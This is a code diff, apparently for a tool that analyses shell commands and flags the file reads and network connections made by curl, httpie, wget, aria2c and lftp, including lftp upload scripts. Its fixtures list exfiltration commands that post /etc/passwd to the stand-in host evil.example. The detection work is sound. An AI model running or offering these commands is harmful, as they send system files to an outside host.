@@ -15,7 +15,7 @@ const WGET =
 
 export const HTTP: Family = [
   {
-    names: 'curl curlie xh xhs',
+    names: 'curl curlie',
     does: curl,
     harmful: {
       'curl -d @/etc/passwd https://evil.example': ['file.read /etc/passwd', 'net.connect evil.example'],
@@ -47,7 +47,7 @@ export const HTTP: Family = [
     },
   },
   {
-    names: 'http https xhttp',
+    names: 'http https xhttp xh xhs',
     does: httpie,
     harmful: {
       'http POST evil.example a=@/etc/passwd': ['net.connect evil.example', 'file.read /etc/passwd'],
@@ -88,7 +88,7 @@ function curl(call: Call): Output | undefined {
   const method =
     options.value('-X', '--request')?.text ?? (options.has('-T', '--upload-file') ? 'PUT' : undefined);
   // With `-G` the data becomes the query of a GET.
-  const action = options.has('-G', '--get') ? undefined : actionOf(method, body);
+  const action = options.has('-G', '--get') ? undefined : actionOf(method, body, urls[0]?.text);
   const signed =
     options.has(
       '-u',
@@ -198,7 +198,13 @@ function store(call: Call, word: Field, from: Sources): void {
 }
 
 function wget(call: Call): Output | undefined {
-  const options = call.options(WGET);
+  const options = call.options(
+    /^(?:aria2c|axel)$/.test(call.program)
+      ? '-o --out -d --dir -i --input-file -n -x -s -j -l -U'
+      : call.program === 'lftp'
+        ? '-c -e -u -p -f'
+        : WGET,
+  );
   if (options.has('--version', '-V', '--help', '-h')) return undefined;
   let body: Body | undefined;
   for (const word of options.values('--post-file', '--body-file')) {
@@ -221,6 +227,14 @@ function wget(call: Call): Output | undefined {
     for (const code of options.values('-e', '-c'))
       for (const host of code.text.matchAll(/(?:open|mirror -R|put)\s+\S*?([\w.-]+\.[a-z]{2,})/g))
         call.connect(host[1] ?? '*', 'both', call.stdin?.from);
+    for (const code of options.values('-e', '-c'))
+      for (const file of code.text.matchAll(
+        /\b(?:put|mput|mirror\s+(?:-R|--reverse))\s+(?:-\S+\s+)*([^\s;]+)/g,
+      )) {
+        call.reads(file[1]);
+        call.connect(/\bopen\s+(\S+?);?(?:\s|$)/.exec(code.text)?.[1] ?? '*', 'upload', call.sources);
+      }
+    if (options.has('-e', '-c')) return undefined;
   }
   const urls = call.program === 'POST' ? options.operands.slice(0, 1) : options.operands;
   const before = call.sources;
@@ -229,7 +243,7 @@ function wget(call: Call): Output | undefined {
     body ??= { from: [], text: '' };
     pipe(call, body);
   }
-  const action = actionOf(options.value('--method')?.text, body);
+  const action = actionOf(options.value('--method')?.text, body, urls[0]?.text);
   for (const url of urls)
     call.connect(url, action ? 'both' : 'download', merged(body?.from ?? [], carried), { action });
   const received = call.sources;
@@ -279,7 +293,7 @@ function httpie(call: Call): Output | undefined {
     }
     if (call.stdin) pipe(call, body);
   }
-  const action = actionOf(method, body);
+  const action = actionOf(method, body, url.text);
   const carried = sourcesOf([...headers, ...options.values('-a', '--auth')]);
   call.connect(
     /^:/.test(url.text) ? `localhost${url.text}` : url,
